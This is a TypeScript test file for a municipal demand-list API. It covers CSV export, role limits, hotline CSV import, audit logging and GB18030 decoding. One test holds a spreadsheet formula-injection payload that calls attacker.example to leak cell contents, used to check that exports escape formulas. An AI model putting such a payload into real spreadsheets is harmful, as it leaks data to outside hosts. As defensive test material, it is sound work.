import { beforeAll, describe, expect, it } from 'vitest';
import { formatCsv } from '../../core/csv-cells.ts';
import { parseCsv } from '../../core/csv-parse.ts';
import type { Role } from '../../core/accounts/roles.ts';
import { createTestApp } from '../support/app.ts';
import { useTestDatabase } from '../support/database.ts';
import { DEMO_USERNAMES, signIn } from '../support/session.ts';

/** The demand list as a spreadsheet: the export staff download, and the hotline import. */
const { sql, kind } = useTestDatabase();
const app = createTestApp(sql, kind);
const cookies = {} as Record<Role, string>;
let demoTown: string;

beforeAll(async () => {
  for (const role of Object.keys(DEMO_USERNAMES) as Role[]) cookies[role] = await signIn(app, DEMO_USERNAMES[role]);
  [{ town: demoTown }] = await sql<{ town: string }[]>`SELECT town_code AS town FROM users WHERE username = ${DEMO_USERNAMES.town}`;
});

const exportCsv = (query: string, cookie?: string) => app.request(`/api/demands/export.csv${query ? `?${query}` : ''}`, { headers: cookie ? { Cookie: cookie } : {} });
const importCsv = (body: string | Uint8Array<ArrayBuffer>, cookie: string | undefined, contentType = 'text/csv; charset=utf-8') =>
  app.request('/api/demands/import', { method: 'POST', headers: { 'Content-Type': contentType, ...(cookie ? { Cookie: cookie } : {}) }, body });

/** Header and rows of a CSV answer, each row as header → cell. */
async function readCsv(response: Response) {
  const text = await response.text();
  const [header, ...rows] = parseCsv(text).map((record) => record.cells);
  return { text, header, rows: rows.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index]]))) };
}

/** A point inside a community of the town (or any town), for import rows. */
async function placeIn(town?: string) {
  const [place] = await sql<{ lon: number; lat: number; community: string; town: string }[]>`
    SELECT round(ST_X(p)::numeric, 7)::float8 AS lon, round(ST_Y(p)::numeric, 7)::float8 AS lat, code AS community, town_code AS town
    FROM (SELECT code, town_code, ST_PointOnSurface(geom) AS p FROM communities WHERE ${town ? sql`town_code = ${town}` : sql`true`} ORDER BY code LIMIT 1) AS c`;
  return place;
}

const HOTLINE_HEADER = ['工单编号', '来电时间', '来电人', '联系电话', '诉求类型', '诉求内容', '问题地址', '经度', '纬度', '承办单位'];
let ticketCounter = 0;
const nextTicket = () => `RX${Date.now()}${String((ticketCounter += 1)).padStart(4, '0')}`;
function hotlineRow(place: { lon: number; lat: number }, overrides: Record<string, string> = {}) {
  const values: Record<string, string> = {
    工单编号: nextTicket(), 来电时间: '2026-11-20 09:15:02', 来电人: '王女士', 联系电话: '138****1234', 诉求类型: '加装电梯',
    诉求内容: '小区3栋七层老楼没有电梯，老人下楼困难。', 问题地址: '3栋', 经度: String(place.lon), 纬度: String(place.lat), 承办单位: '镇街', ...overrides,
  };
  return HOTLINE_HEADER.map((name) => values[name]);
}

async function countWrites() {
  const [row] = await sql<{ demands: number; audit: number }[]>`SELECT (SELECT count(*)::int FROM demands) AS demands, (SELECT count(*)::int FROM audit_log) AS audit`;
  return row;
}

async function expectImportRefused(response: Response, before: { demands: number; audit: number }) {
  expect(response.status).toBe(400);
  const { error } = (await response.json()) as { error: { code: string; details: { errorCount: number; errors: Array<{ row: number; column: string | null; message: string }> } } };
  expect(error.code).toBe('import_refused');
  expect(await countWrites()).toEqual(before);
  return error.details;
}

describe('GET /api/demands/export.csv', () => {
  it('answers staff with UTF-8 CSV and a BOM, the list’s demands for the same filters, contacts included', async () => {
    const response = await exportCsv('status=resolved&optimization=3', cookies.commission);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="demands-\d{8}\.csv"$/);
    const bytes = new Uint8Array(await response.clone().arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const { header, rows } = await readCsv(response);
    expect(header).toContain('联系电话');
    const list = (await (await app.request('/api/demands?status=resolved&optimization=3&limit=500', { headers: { Cookie: cookies.commission } })).json()) as { total: number; items: Array<{ id: number }> };
    expect(rows.map((row) => Number(row.需求编号))).toEqual(list.items.map((item) => item.id));
    expect(rows.length).toBe(list.total);
    expect(new Set(rows.map((row) => row.状态))).toEqual(new Set(['已解决']));
    expect(new Set(rows.map((row) => row.七个优化))).toEqual(new Set(['3']));
  });

  it('keeps a town office to its town, and gives the inspector no contacts', async () => {
    const town = await readCsv(await exportCsv('', cookies.town));
    expect(town.rows.length).toBeGreaterThan(0);
    expect(new Set(town.rows.map((row) => row.镇街编码))).toEqual(new Set([demoTown]));
    const inspector = await readCsv(await exportCsv('status=accepted', cookies.inspector));
    expect(inspector.header).not.toContain('联系电话');
    expect(inspector.text).not.toMatch(/\*\*\*\*/);
  });

  it('refuses the public (401) and a bad filter (400)', async () => {
    expect((await exportCsv('')).status).toBe(401);
    expect((await exportCsv('status=lost', cookies.commission)).status).toBe(400);
    expect((await exportCsv('limit=10', cookies.commission)).status).toBe(400);
  });

  it('guards cells that a spreadsheet would run as formulas, and the import reads them back as typed', async () => {
    const place = await placeIn();
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"点击")';
    const created = await importCsv(formatCsv([HOTLINE_HEADER, hotlineRow(place, { 诉求内容: formula, 来电人: '', 联系电话: '+86 138****0000' })]), cookies.commission);
    expect(created.status).toBe(201);
    const { demands: [{ id }] } = (await created.json()) as { demands: Array<{ id: number }> };
    const { text, rows } = await readCsv(await exportCsv('status=submitted&sort=newest', cookies.commission));
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""点击"")"`);
    const row = rows.find((candidate) => Number(candidate.需求编号) === id)!;
    expect(row.诉求内容).toBe(`'${formula}`);
    expect(row.联系电话).toBe("'+86 138****0000");
  });
});

describe('POST /api/demands/import', () => {
  it('round-trips an export: every demand comes back with its type, texts, contact, place and time, as new submitted demands', async () => {
    const exported = await readCsv(await exportCsv('type=canteen&status=accepted', cookies.commission));
    expect(exported.rows.length).toBeGreaterThan(2);
    const response = await importCsv(exported.text, cookies.commission);
    expect(response.status).toBe(201);
    const body = (await response.json()) as { created: number; demands: Array<{ row: number; id: number; receipt: string }> };
    expect(body.created).toBe(exported.rows.length);
    const ids = body.demands.map((demand) => demand.id);
    const copies = await sql<Array<Record<string, unknown>>>`
      SELECT id, type, title, text, contact, source, status, community_code, town_code, created_at,
             round(ST_X(geom)::numeric, 7)::float8 AS lon, round(ST_Y(geom)::numeric, 7)::float8 AS lat
      FROM demands WHERE id IN ${sql(ids)} ORDER BY id`;
    const originals = await sql<Array<Record<string, unknown>>>`
      SELECT id, type, title, text, contact, source, community_code, town_code, created_at,
             round(ST_X(geom)::numeric, 7)::float8 AS lon, round(ST_Y(geom)::numeric, 7)::float8 AS lat
      FROM demands WHERE id IN ${sql(exported.rows.map((row) => Number(row.需求编号)))}`;
    const byId = new Map(originals.map((original) => [original.id, original]));
    body.demands.forEach((created, index) => {
      const copy = copies.find((candidate) => candidate.id === created.id)!;
      const original = byId.get(Number(exported.rows[index].需求编号))!;
      expect(created.row).toBe(index + 2);
      expect({ ...copy, id: undefined, status: undefined }).toEqual({ ...original, id: undefined, status: undefined });
      expect(copy.status).toBe('submitted');
    });
  });

  it('takes a hotline export, writes one audit row per demand in one request, and refuses the same tickets again', async () => {
    const place = await placeIn();
    const csv = formatCsv([HOTLINE_HEADER, hotlineRow(place), hotlineRow(place, { 诉求类型: 'parking', 诉求内容: '夜间停车难。' })]);
    const response = await importCsv(csv, cookies.admin);
    expect(response.status).toBe(201);
    const body = (await response.json()) as { demands: Array<{ id: number; externalRef: string; community: string; town: string }> };
    expect(body.demands.map((demand) => [demand.community, demand.town])).toEqual([[place.community, place.town], [place.community, place.town]]);
    const trail = await sql<{ action: string; entity_id: string; request_id: string; actor: string; after: { externalRef: string; csvRow: number } }[]>`
      SELECT action, entity_id, request_id, actor, after FROM audit_log WHERE entity = 'demand' AND entity_id IN ${sql(body.demands.map((demand) => String(demand.id)))} ORDER BY id`;
    expect(trail.map((row) => [row.action, Number(row.entity_id), row.actor, row.after.csvRow])).toEqual([
      ['import', body.demands[0].id, DEMO_USERNAMES.admin, 2],
      ['import', body.demands[1].id, DEMO_USERNAMES.admin, 3],
    ]);
    expect(new Set(trail.map((row) => row.request_id)).size).toBe(1);
    const before = await countWrites();
    const details = await expectImportRefused(await importCsv(csv, cookies.admin), before);
    expect(details.errors.map((error) => [error.row, error.column])).toEqual([[2, '工单编号'], [3, '工单编号']]);
    expect(details.errors[0].message).toContain(`imported already, as demand ${body.demands[0].id}`);
  });

  it('writes nothing when one row is bad, and names every bad row and column', async () => {
    const place = await placeIn();
    const before = await countWrites();
    const csv = formatCsv([
      HOTLINE_HEADER,
      hotlineRow(place),
      hotlineRow(place, { 诉求类型: '飞机场' }),
      hotlineRow(place),
      hotlineRow({ lon: 120.1, lat: 30.2 }),
    ]);
    const details = await expectImportRefused(await importCsv(csv, cookies.commission), before);
    expect(details.errors.map((error) => [error.row, error.column])).toEqual([[3, '诉求类型']]);
    // Cell problems come first; the place is checked only once every cell is right.
    const placeProblem = await expectImportRefused(await importCsv(formatCsv([HOTLINE_HEADER, hotlineRow(place), hotlineRow({ lon: 120.1, lat: 30.2 })]), cookies.commission), before);
    expect(placeProblem.errors).toEqual([{ row: 3, column: '经度', message: expect.stringMatching(/outside the district/) }]);
  });

  it('lets a town office import only demands inside its town', async () => {
    const own = await placeIn(demoTown);
    const [{ town: otherTown }] = await sql<{ town: string }[]>`SELECT code AS town FROM towns WHERE code <> ${demoTown} ORDER BY code LIMIT 1`;
    const other = await placeIn(otherTown);
    const before = await countWrites();
    const details = await expectImportRefused(await importCsv(formatCsv([HOTLINE_HEADER, hotlineRow(own), hotlineRow(other)]), cookies.town), before);
    expect(details.errors).toEqual([{ row: 3, column: '经度', message: expect.stringContaining('outside your town') }]);
    const response = await importCsv(formatCsv([HOTLINE_HEADER, hotlineRow(own)]), cookies.town);
    expect(response.status).toBe(201);
  });

  it('is the commission’s, the administrator’s and a town office’s: others 403, the public 401', async () => {
    const csv = formatCsv([HOTLINE_HEADER, hotlineRow(await placeIn())]);
    expect((await importCsv(csv, cookies.planner)).status).toBe(403);
    expect((await importCsv(csv, cookies.inspector)).status).toBe(403);
    expect((await importCsv(csv, undefined)).status).toBe(401);
  });

  it('reads GB18030 (GBK) when the request says so, and refuses bytes that are not the charset', async () => {
    const csv = formatCsv([HOTLINE_HEADER, hotlineRow(await placeIn())]).slice(1);
    const response = await importCsv(encodeGb18030(csv), cookies.commission, 'text/csv; charset=GBK');
    expect(response.status).toBe(201);
    expect((await importCsv(encodeGb18030(csv), cookies.commission)).status).toBe(400);
    expect((await importCsv(csv, cookies.commission, 'application/json')).status).toBe(415);
    expect((await importCsv(csv, cookies.commission, 'text/csv; charset=big5')).status).toBe(415);
  });
});

/** GB18030 bytes for the test's text: built by decoding every two-byte code, as no encoder is built in. */
function encodeGb18030(text: string): Uint8Array<ArrayBuffer> {
  const decoder = new TextDecoder('gb18030');
  const table = new Map<string, number[]>();
  for (let lead = 0x81; lead <= 0xfe; lead += 1) {
    for (let trail = 0x40; trail <= 0xfe; trail += 1) if (trail !== 0x7f) table.set(decoder.decode(new Uint8Array([lead, trail])), [lead, trail]);
  }
  return Uint8Array.from([...text].flatMap((character) => (character.charCodeAt(0) < 0x80 ? [character.charCodeAt(0)] : table.get(character) ?? [0x3f])));
}
